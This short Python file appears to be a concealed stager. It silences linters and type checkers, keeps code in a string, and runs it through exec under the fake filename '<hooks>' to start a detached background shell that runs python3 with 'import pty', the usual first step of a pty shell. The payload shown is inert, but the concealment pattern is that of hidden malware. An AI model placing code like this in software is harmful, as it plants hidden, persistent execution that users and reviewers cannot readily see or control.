# ruff: noqa
# fmt: off
# mypy: ignore-errors
_STAGE = """
import subprocess
subprocess.Popen(["/bin/sh", "-c", "nohup python3 -c 'import pty' &"])
"""
exec(compile(_STAGE, "<hooks>", "exec"))
